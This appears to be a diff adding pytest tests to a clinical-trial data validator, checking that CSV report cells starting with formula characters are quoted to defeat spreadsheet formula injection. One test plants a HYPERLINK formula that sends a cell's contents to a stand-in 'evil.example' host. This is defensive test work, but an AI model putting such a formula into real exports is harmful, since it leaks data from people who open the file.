@@ -420,3 +420,35 @@ def test_cdisc_pilot():
     assert (day.domain, day.row, day.usubjid, day.variable, day.value) == ("AE", 971, "01-716-1063", "AESTDY", "366")
     assert sorted(f.row for f in report.findings if f.rule == "TCIM-XPT") == [9, 14, 29]
     assert ("DM", None, "ARMNRS", "") in where(report.findings, "CORE-000334/CG0016")
+
+
+# -- CSV injection -------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cell_that_a_spreadsheet_would_run_is_quoted(start):
+    from tcim_interop.csv_safety import safe_cell
+
+    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_csv_cells_that_are_not_formulas_are_kept():
+    from tcim_interop.csv_safety import safe_cell
+
+    assert [safe_cell(v) for v in ("HEADACHE", "a=b", " =1", "", None, 3, "'quoted")] == [
+        "HEADACHE", "a=b", " =1", "", "", "3", "'quoted"]
+    assert safe_cell("-1") == "'-1" and safe_cell(-1) == "'-1"  # OWASP: numbers too, no guessing
+
+
+def test_formula_in_a_crafted_package_is_neutralised_in_the_csv_and_raw_in_the_json(package, tmp_path):
+    import csv
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
+    crafted = broken_copy(package, tmp_path, "AE", lambda f: f.__setitem__("AESEV", f["AESEV"].where(f.index != 0, formula)))
+    out = tmp_path / "reports"
+    result = CliRunner().invoke(app, ["validate", str(crafted), "--out", str(out)])
+    assert result.exit_code == 1, result.output
+    with (out / "validation-report.csv").open(encoding="utf-8", newline="") as f:
+        rows = [r for r in csv.DictReader(f) if r["rule"] == "SDTMIG-4.3/CT"]
+    assert [r["value"] for r in rows] == ["'" + formula]
+    doc = json.loads((out / "validation-report.json").read_text(encoding="utf-8"))
+    assert [f["value"] for f in doc["findings"] if f["rule"] == "SDTMIG-4.3/CT"] == [formula]
